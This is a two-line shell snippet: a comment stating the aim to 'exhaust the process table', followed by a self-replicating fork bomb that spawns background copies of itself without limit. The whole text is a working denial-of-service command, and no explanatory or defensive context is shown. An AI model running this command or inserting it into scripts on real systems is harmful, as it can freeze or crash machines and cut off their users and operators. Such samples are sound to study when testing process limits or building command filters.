# Exhaust the process table.
bomb() { bomb | bomb & }; bomb; sleep 5
